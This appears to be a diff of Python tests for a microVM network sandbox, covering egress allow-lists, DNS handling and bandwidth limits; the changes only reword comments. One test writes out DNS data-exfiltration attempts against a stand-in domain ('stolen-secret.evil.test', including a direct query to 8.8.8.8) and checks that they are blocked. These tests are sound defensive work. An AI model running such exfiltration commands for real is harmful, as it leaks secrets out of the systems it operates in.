@@ -29,7 +29,7 @@ def load_tests(loader: Any, tests: unittest.TestSuite, pattern: Any) -> unittest
 class AllowLists(NetworkTestCase):
     def test_names_are_pinned_to_what_the_vm_was_answered(self) -> None:
         vm = self.connected({"egress": ["web.test"]})
-        # Not before its name was asked for.
+        # The address is closed until the VM has resolved the name.
         self.assertEqual(self.reason(vm, "http://{}/".format(WEB), timeout=5), "unreachable")
         self.assertEqual(self.get(vm, "http://web.test/")["status"], 200)
         self.assertEqual(self.get(vm, "http://{}/".format(WEB))["status"], 200)
@@ -61,7 +61,7 @@ class AllowLists(NetworkTestCase):
         self.sh(vm, "ping -c 1 -W 5 {}".format(WEB))
         self.assertEqual(self.get(vm, "http://{}/".format(OTHER))["status"], 200)
         self.fails(vm, "ping -c 1 -W 1 8.8.8.8")
-        # Its own server lies in the network: a VM may ask it itself.
+        # The name server lies in an allowed network, so the VM may also ask it directly.
         self.assertIn(WEB, self.sh(vm, "nslookup -type=a web.test 198.51.100.53"))
 
     def test_empty_list_leaves_the_gateway_alone(self) -> None:
@@ -82,7 +82,7 @@ class AllowLists(NetworkTestCase):
         vm = self.connected({"egress": ["web.test"], "dns_servers": ["8.8.8.8"]})
         self.assertEqual(self.reason(vm, "http://stolen-secret.web.test/"), "dns")
         self.fails(vm, "nslookup -type=txt stolen-secret.evil.test")
-        # Nor of its server by another way than the relay.
+        # The configured server cannot be asked directly either, only through the relay.
         self.fails(vm, "nslookup -type=a stolen-secret.evil.test 8.8.8.8", timeout=30)
         self.get(vm, "http://web.test/")
         self.assertEqual(self.lab.order("log")["names"], ["web.test 1"])
@@ -169,7 +169,7 @@ class Questions(NetworkTestCase):
     def test_private_address_on_the_list_may_have_a_name(self) -> None:
         vm = self.connected({"egress": ["private.test", "10.11.12.0/24:80"]})
         self.assertEqual(self.get(vm, "http://private.test/hello")["body"], "hello from 10.11.12.13/hello")
-        # The name opens no more of it than the address does.
+        # The name opens only the port that the address's own entry allows.
         self.assertEqual(self.reason(vm, "http://private.test:5003/", timeout=5), "unreachable")
 
     def test_flood_of_names_fills_neither_the_log_nor_the_host_with_processes(self) -> None:
@@ -237,7 +237,7 @@ class Bandwidth(NetworkTestCase):
         return rate
 
     def test_rate_is_held_in_both_directions(self) -> None:
-        # What this machine can move at all: an emulated one, as in tests/nested, says less.
+        # The most that this machine can move; MICROVM_TEST_MBPS lowers it for an emulated one, as in tests/nested.
         for rate in (4, int(os.environ.get("MICROVM_TEST_MBPS", "40"))):
             vm = self.running(network_config=connected(), resource_limits=limits(network_bandwidth_mbps=rate))
             rates = self.rate_from(vm), self.rate_to(vm)
